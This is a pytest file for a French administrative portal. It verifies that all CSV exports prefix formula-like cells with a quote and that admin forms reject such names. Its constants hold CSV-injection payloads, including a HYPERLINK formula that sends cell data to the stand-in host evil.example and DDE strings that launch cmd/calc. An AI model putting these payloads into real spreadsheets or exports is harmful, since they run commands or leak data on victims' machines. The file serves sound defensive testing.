"""CSV injection: no cell of a CSV file the portal writes runs as a formula in a spreadsheet, numbers stay numbers.

Hostile names (a site called ``=HYPERLINK(…)``, a prefecture called ``+cmd|' /C calc'!A0``) are put in the
database as a record saved before the input check would be (``update``, factories), then every CSV the portal
writes is downloaded and parsed back: open data of the delays and of the results (national and per
prefecture), the survey export, the audit report's detailed CSV, the delivery import's bad-rows report and
the demo delivery file. The admin forms refuse the same names, with a message in French. And no module
writes CSV with ``csv.writer`` itself: everything goes through ``qualipref.csvfiles``.
"""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import translation

from complaints.enums import Status
from delays.models import BadRow, MonthPublication, TitleType
from delays.services import month_publish
from engagements.models import EngagementVersion
from engagements.periods import Period, results_complete_before
from engagements.services import monthly_indicators_refresh
from qualipref.dates import add_months
from qualipref.models import Prefecture, Service, Site
from surveys.enums import QuestionKind
from surveys.models import Choice, Survey
from tests.complaints.factories import CaseFactory
from tests.delays.factories import HEADER, run_import
from tests.engagements.factories import local
from tests.qualipref.factories import ServiceFactory, SiteFactory, coordinator, officer_of
from tests.surveys.factories import DistributionPointFactory, questions_of, respond, survey_of_every_kind
from tests.surveys.test_admin import form_data, inline_errors

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
FULL_WIDTH = '\uff1dHYPERLINK("http://evil.example/")'
HOSTILE = [HYPERLINK, CMD, SUM, MINUS, TAB, CR, FULL_WIDTH]

# This test's own oracle (not the module's): what a spreadsheet would start a formula with.
FORMULA_START = re.compile(r"^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")

MESSAGE_FR = (
    "Ne peut pas commencer par =, +, -, @, une tabulation ou un retour chariot\u00a0: un tableur qui ouvre les "
    "fichiers CSV du portail l’exécuterait comme une formule."
)
MESSAGE_EN = (
    "This cannot start with =, +, -, @, a tab or a carriage return: a spreadsheet opening the portal's CSV files "
    "would run it as a formula."
)


def rows_of(response):
    """The CSV of a response, parsed back as a spreadsheet would read it (semicolons, byte-order mark)."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return parse(body)


def parse(body):
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def assert_no_formula(rows):
    """No cell starts like a formula, unless it is a plain number (a spreadsheet reads ``-3`` as minus three)."""
    for row in rows:
        for cell in row:
            assert not FORMULA_START.match(cell) or NUMBER.fullmatch(cell), f"{cell!r} would run as a formula"


def neutralised(value):
    return "'" + value


def column(rows, name):
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


# --- the rule --------------------------------------------------------------------------------------


def test_the_writer_neutralises_text_and_keeps_numbers():
    from qualipref import csvfiles

    numbers = [-3, -0.5, Decimal("-0.50"), 0, 12, "-3", "-0.5", "-0,5", "+2", None]
    rows = parse("".join(csvfiles.lines(["texte", *range(len(numbers) - 1)], [HOSTILE, numbers])).encode())
    assert rows[1] == [neutralised(value) for value in HOSTILE]
    assert rows[2] == ["-3", "-0.5", "-0.50", "0", "12", "-3", "-0.5", "-0,5", "+2", ""]
    assert float(rows[2][1]) == -0.5 and int(rows[2][0]) == -3  # numbers, read back as numbers
    assert_no_formula(rows)


def test_no_module_writes_csv_without_the_shared_writer():
    """Every CSV file goes through ``qualipref.csvfiles``: no ``csv.writer``, ``csv.DictWriter`` or hand-made
    spreadsheet file (a byte-order mark) anywhere else in the portal's code."""
    root = Path(__file__).resolve().parents[2]
    forbidden = [
        re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b"),
        re.compile(r"from\s+csv\s+import[^\n]*\b(writer|DictWriter)\b"),
        re.compile(r"\\ufeff|\\xef\\xbb\\xbf|codecs\.BOM"),
    ]
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if relative.parts[0].startswith(".venv") or relative.parts[0] in {"tests", "node_modules"}:
            continue
        if relative == Path("qualipref/csvfiles.py"):
            continue
        source = path.read_text(encoding="utf-8")
        offenders += [f"{relative}: {pattern.pattern}" for pattern in forbidden if pattern.search(source)]
    assert not offenders, "CSV written without qualipref.csvfiles: " + ", ".join(offenders)


# --- open data -------------------------------------------------------------------------------------


def _quoted(value):
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture
def hostile_delays(reunion):
    """La Réunion, renamed like a formula before names were checked, with a hostile site and title label."""
    Prefecture.objects.filter(pk=reunion.pk).update(name=CMD)
    TitleType.objects.filter(code="TS-PREMIERE").update(label=SUM)
    SiteFactory(prefecture=reunion, name=HYPERLINK)
    lines = [HEADER] + [
        f"974;TS-PREMIERE;{_quoted(HYPERLINK)};2026-01-{day:02d};2026-02-{day + 9:02d}" for day in (5, 6, 7)
    ]
    run_import(reunion, ("\n".join(lines) + "\n").encode())
    for publication in MonthPublication.objects.filter(prefecture=reunion):
        month_publish(publication=publication, by=None)
    reunion.refresh_from_db()
    return reunion


@pytest.mark.parametrize("scope", ["network", "prefecture"])
def test_delays_open_data_neutralises_names_and_keeps_numbers(client, hostile_delays, scope):
    if scope == "network":
        url = reverse("delays:network_open_data", args=["csv"])
    else:
        url = reverse("delays:prefecture_open_data", args=[hostile_delays.slug, "csv"])
    rows = rows_of(client.get(url))
    assert_no_formula(rows)
    assert set(column(rows, "prefecture")) == {neutralised(CMD)}
    assert set(column(rows, "titre")) == {neutralised(SUM)}
    assert set(column(rows, "site")) == {"", neutralised(HYPERLINK)}
    assert column(rows, "nombre_delivrances") == ["3", "3"]
    assert [Decimal(value) for value in column(rows, "delai_moyen_jours")] == [Decimal("40.00")] * 2
    assert column(rows, "total_jours") == ["120", "120"]


@pytest.fixture
def hostile_results(reunion):
    last_month = add_months(results_complete_before(reunion.today()), -1)
    Prefecture.objects.filter(pk=reunion.pk).update(name=HYPERLINK)
    EngagementVersion.objects.filter(engagement__code="RECLAMATIONS-15J").update(wording=MINUS)
    CaseFactory(
        prefecture=reunion,
        received_on=last_month,
        due_on=last_month + datetime.timedelta(days=20),
        answered_at=local(reunion, last_month + datetime.timedelta(days=3)),
        status=Status.ANSWERED,
    )
    CaseFactory(prefecture=reunion, received_on=last_month, due_on=last_month, status=Status.IN_PROGRESS)
    monthly_indicators_refresh(prefecture=reunion)
    reunion.refresh_from_db()
    return reunion


@pytest.mark.parametrize("scope", ["network", "prefecture"])
def test_results_open_data_neutralises_names_and_keeps_numbers(client, hostile_results, scope):
    if scope == "network":
        url = reverse("results:network_open_data", kwargs={"fmt": "csv"})
    else:
        url = reverse("results:prefecture_open_data", kwargs={"slug": hostile_results.slug, "fmt": "csv"})
    rows = rows_of(client.get(url))
    assert_no_formula(rows)
    assert set(column(rows, "prefecture")) == {neutralised(HYPERLINK)}
    complaints = [row for row in rows[1:] if row[rows[0].index("code_engagement")] == "RECLAMATIONS-15J"]
    assert complaints and {row[rows[0].index("engagement")] for row in complaints} == {neutralised(MINUS)}
    row = dict(zip(rows[0], complaints[-1], strict=True))
    assert (float(row["numerateur"]), float(row["denominateur"]), float(row["valeur"])) == (1.0, 2.0, 50.0)


# --- exports ---------------------------------------------------------------------------------------


def test_survey_export_neutralises_points_choices_and_answers(client, reunion):
    survey = survey_of_every_kind(reunion)
    point = DistributionPointFactory(survey=survey, name=CMD)
    q = questions_of(survey)
    Choice.objects.filter(question=q[QuestionKind.SINGLE_CHOICE], position=1).update(label=SUM)
    respond(
        survey,
        {
            q[QuestionKind.SATISFACTION]: 4,
            q[QuestionKind.SINGLE_CHOICE]: q[QuestionKind.SINGLE_CHOICE].choices.get(position=1),
            q[QuestionKind.FREE_TEXT]: HYPERLINK,
        },
        point=point,
    )
    respond(survey, {q[QuestionKind.FREE_TEXT]: "-3"})  # a number typed by a citizen stays a number
    client.force_login(officer_of(reunion))
    rows = rows_of(client.get(reverse("admin:surveys_survey_export", args=[survey.pk])))
    assert_no_formula(rows)
    assert rows[1][1:5] == [neutralised(CMD), "4", "", neutralised(SUM)]
    assert rows[1][7] == neutralised(HYPERLINK)
    assert rows[2][7] == "-3"


def test_audit_report_csv_neutralises_service_names(reunion):
    from reports.render import render_csv

    quarter = Period.quarter(2026, 3)
    received = datetime.date(2026, 7, 6)
    CaseFactory(
        prefecture=reunion,
        service=ServiceFactory(prefecture=reunion, name=TAB),
        received_on=received,
        due_on=received + datetime.timedelta(days=21),
        answered_at=local(reunion, datetime.date(2026, 7, 10)),
        status=Status.ANSWERED,
        rating=4,
    )
    rows = parse(render_csv(reunion, quarter))  # the file stored with the report and served as it is
    assert_no_formula(rows)
    assert column(rows, "service") == [neutralised(TAB)]
    assert column(rows, "note_reponse") == ["4"]
    assert [int(days) for days in column(rows, "delai_jours_ouvres")] == [4]


def test_import_bad_rows_report_neutralises_the_values_it_echoes(client, reunion):
    lines = [
        HEADER,
        f"974;TS-PREMIERE;{CMD};2026-01-05;2026-02-09",  # unknown site
        f"974;TS-PREMIERE;;{SUM};2026-02-09",  # not a date
        "974;=1+1;;2026-01-05;2026-02-09",  # unknown title code
        "-3;TS-PREMIERE;;2026-01-05;2026-02-09",  # another department
    ]
    delivery_import = run_import(reunion, ("\n".join(lines) + "\n").encode(), auto_accept=False)
    # The values are stored as they were read (the report is what must not run them).
    assert set(BadRow.objects.values_list("detail", flat=True)) == {CMD, SUM, "=1+1", "-3"}
    client.force_login(officer_of(reunion))
    rows = rows_of(client.get(reverse("admin:delays_import_report", args=[delivery_import.pk])))
    assert rows[0] == ["ligne", "motif", "valeur", "message"]
    assert_no_formula(rows)
    assert [int(line) for line in column(rows, "ligne")] == [2, 3, 4, 5]
    assert column(rows, "valeur") == [neutralised(CMD), neutralised(SUM), neutralised("=1+1"), "-3"]


def test_demo_delivery_file_neutralises_site_names(reunion):
    from delays.demo import demo_csv

    Site.objects.filter(prefecture=reunion).delete()
    SiteFactory(prefecture=reunion, name=HYPERLINK)
    rows = parse(b"\xef\xbb\xbf" + demo_csv(reunion, last_month=datetime.date(2026, 1, 1), seed="974"))
    assert_no_formula(rows)
    assert set(column(rows, "site")) == {neutralised(HYPERLINK)}


# --- input -----------------------------------------------------------------------------------------


def _admin_form_data(response):
    """What the admin page's form would post back as it is shown (no inlines)."""
    form = response.context["adminform"].form
    data = {}
    for name in form.fields:
        value = form[name].value()
        if value is True:
            data[name] = "on"
        elif value not in (None, False):
            data[name] = value.isoformat() if isinstance(value, datetime.date) else value
    return data


def _errors(response, field):
    assert response.status_code == 200, "the form was saved"
    return [str(error) for error in response.context["adminform"].form.errors.get(field, [])]


@pytest.mark.parametrize("name", [HYPERLINK, CMD, SUM, MINUS, FULL_WIDTH])
def test_officer_cannot_name_a_site_or_a_service_like_a_formula(client, reunion, name):
    client.force_login(officer_of(reunion))
    for model, url in ((Site, "admin:qualipref_site_add"), (Service, "admin:qualipref_service_add")):
        data = {**_admin_form_data(client.get(reverse(url))), "prefecture": reunion.pk, "name": name}
        response = client.post(reverse(url), data)
        assert _errors(response, "name") == [MESSAGE_FR]
        assert not model.objects.filter(name=name).exists()
    data["name"] = "Titres de séjour – accueil"  # the same form with a plain name is saved
    assert client.post(reverse("admin:qualipref_service_add"), data).status_code == 302


def test_coordinator_cannot_name_a_prefecture_or_a_title_like_a_formula(client, reunion):
    client.force_login(coordinator())
    url = reverse("admin:qualipref_prefecture_change", args=[reunion.pk])
    data = {**_admin_form_data(client.get(url)), "name": CMD, "department_code": "=1"}
    response = client.post(url, data)
    assert _errors(response, "name") == [MESSAGE_FR]
    assert _errors(response, "department_code") == [MESSAGE_FR]
    reunion.refresh_from_db()
    assert reunion.name == "La Réunion"

    url = reverse("admin:delays_titletype_add")
    data = {**_admin_form_data(client.get(url)), "code": "TS-PIEGE", "label": HYPERLINK, "category": "other"}
    assert _errors(client.post(url, data), "label") == [MESSAGE_FR]
    assert not TitleType.objects.filter(code="TS-PIEGE").exists()


def test_coordinator_cannot_word_an_engagement_like_a_formula(client, reunion):
    client.force_login(coordinator())
    url = reverse("admin:engagements_engagement_add")
    data = {
        **_admin_form_data(client.get(url)),
        "code": "-A1",
        "source": "cases_on_time",
        "versions-TOTAL_FORMS": 1,
        "versions-INITIAL_FORMS": 0,
        "versions-MIN_NUM_FORMS": 0,
        "versions-MAX_NUM_FORMS": 1000,
        "versions-0-valid_from": "2026-01-01",
        "versions-0-wording": SUM,
        "versions-0-target_value": "90",
        "versions-0-comparator": "gte",
        "versions-0-unit": "percent",
    }
    response = client.post(url, data)
    assert _errors(response, "code") == [MESSAGE_FR]
    versions = next(f.formset for f in response.context["inline_admin_formsets"] if f.formset.prefix == "versions")
    assert [str(error) for error in versions.errors[0].get("wording", [])] == [MESSAGE_FR]


def test_officer_cannot_give_a_survey_a_title_question_choice_or_point_like_a_formula(client, reunion):
    site = SiteFactory(prefecture=reunion)
    client.force_login(officer_of(reunion))
    questions = [
        {"position": 1, "text": HYPERLINK, "kind": QuestionKind.SATISFACTION, "required": True},
        {"position": 2, "text": "Démarche ?", "kind": QuestionKind.SINGLE_CHOICE, "choices_text": f"Séjour\n{CMD}"},
    ]
    data = form_data(prefecture=reunion, title=SUM, questions=questions, points=[{"name": MINUS, "site": site.pk}])
    response = client.post(reverse("admin:surveys_survey_add"), data)
    assert _errors(response, "title") == [MESSAGE_FR]
    assert inline_errors(response) == [MESSAGE_FR, MESSAGE_FR]  # the question's text, the second one's choices
    points = next(f.formset for f in response.context["inline_admin_formsets"] if f.formset.prefix == "points")
    assert [str(error) for error in points.errors[0]["name"]] == [MESSAGE_FR]
    assert not Survey.objects.exists()


def test_the_refusal_reads_in_english_on_english_pages():
    from django.core.exceptions import ValidationError

    from qualipref.csvfiles import refuse_formula_start

    with pytest.raises(ValidationError) as refused:
        refuse_formula_start(CMD)
    with translation.override("en"):
        assert refused.value.messages == [MESSAGE_EN]
    assert refused.value.messages == [MESSAGE_FR]
